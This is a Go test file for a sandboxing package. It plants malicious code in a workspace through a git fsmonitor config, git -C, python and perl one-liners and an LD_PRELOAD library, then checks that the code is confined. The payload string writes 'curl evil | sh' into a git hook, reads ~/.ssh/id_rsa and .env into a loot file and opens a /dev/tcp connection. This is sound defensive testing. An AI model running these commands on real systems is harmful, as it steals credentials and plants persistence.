package osbox

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// plantedPayload is what planted code tries once it runs: write outside
// the workspace, persist in the repository's hooks, read a masked secret,
// and call out. The sandbox lets the code run; none of it may succeed.
func plantedPayload(f fixture) string {
	return `echo pwned > ` + filepath.Join(f.outside, "pwned") + ` 2>/dev/null; ` +
		`echo 'curl evil | sh' > ` + filepath.Join(f.root, ".git", "hooks", "post-checkout") + ` 2>/dev/null; ` +
		`cat ` + filepath.Join(f.home, ".ssh", "id_rsa") + ` ` + filepath.Join(f.root, ".env") + ` > ` + filepath.Join(f.root, "loot") + ` 2>/dev/null; ` +
		`(exec 3<>/dev/tcp/1.1.1.1/80 && echo reached > ` + filepath.Join(f.root, "net") + `) 2>/dev/null; true`
}

func checkPayloadFailed(t *testing.T, f fixture) {
	t.Helper()
	if _, err := os.Stat(filepath.Join(f.outside, "pwned")); err == nil {
		t.Error("planted code wrote outside the workspace")
	}
	if _, err := os.Stat(filepath.Join(f.root, ".git", "hooks", "post-checkout")); err == nil {
		t.Error("planted code wrote a git hook")
	}
	if b, err := os.ReadFile(filepath.Join(f.root, "loot")); err == nil && strings.Contains(string(b), "planted-secret") {
		t.Errorf("planted code read a masked secret: %q", b)
	}
	if _, err := os.Stat(filepath.Join(f.root, "net")); err == nil {
		t.Error("planted code reached the network")
	}
}

// TestPlantedCodeRunsConfined covers the class "a command the analysis
// thought harmless runs code planted in the workspace": git's fsmonitor
// from a planted config (git status), a planted repository the command
// is pointed at (git -C), and interpreters given code on the command line.
// Under both grants the code runs, and none of its payload succeeds.
func TestPlantedCodeRunsConfined(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git is needed")
	}
	for _, m := range mechanisms(t) {
		for _, a := range []Access{ReadOnly, WorkspaceWrite} {
			if m == Landlock && a == WorkspaceWrite {
				continue // documented limit: the fallback's writable root is writable whole
			}
			t.Run(string(m)+"/"+a.String(), func(t *testing.T) {
				f := newFixture(t)
				evil := filepath.Join(f.root, "tools", "fsmonitor.sh")
				must(t, os.MkdirAll(filepath.Dir(evil), 0o755))
				must(t, os.WriteFile(evil, []byte("#!/bin/bash\n"+plantedPayload(f)+"\necho PLANTED-RAN >&2\nexit 0\n"), 0o755))
				git := exec.Command("git", "init", "-q", f.root)
				must(t, git.Run())
				cfg, _ := os.ReadFile(filepath.Join(f.root, ".git", "config"))
				must(t, os.WriteFile(filepath.Join(f.root, ".git", "config"), append(cfg, []byte("[core]\n\tfsmonitor = "+evil+"\n")...), 0o644))
				scripts := []string{
					"git status --short",
					"git -C " + f.root + " diff",
					`python3 -c "import os; os.system('bash ` + evil + `')"`,
					`perl -e 'system("bash", "` + evil + `")'`,
				}
				// A loader: a shared object planted in the workspace, loaded
				// through LD_PRELOAD (as openssl -engine ./lib.so would). It
				// drops LD_PRELOAD before it starts a shell: else every
				// shell would load it again, a fork bomb.
				if cc, err := exec.LookPath("cc"); err == nil {
					src := filepath.Join(t.TempDir(), "lib.c")
					must(t, os.WriteFile(src, []byte("#include <stdlib.h>\n__attribute__((constructor)) static void run(void) { unsetenv(\"LD_PRELOAD\"); system(\"bash "+evil+"\"); }\n"), 0o644))
					if out, err := exec.Command(cc, "-shared", "-fPIC", "-o", filepath.Join(f.root, "lib.so"), src).CombinedOutput(); err != nil {
						t.Fatalf("cc: %v %s", err, out)
					}
					scripts = append(scripts, "LD_PRELOAD=./lib.so /bin/true")
				}
				for _, s := range scripts {
					// The planted code does run (else this test proves nothing).
					if out, _ := run(t, m, f.policy(a), f.root, s); !strings.Contains(out, "PLANTED-RAN") {
						t.Errorf("%s: the planted program did not run: %q", s, out)
					}
				}
				checkPayloadFailed(t, f)
			})
		}
	}
}
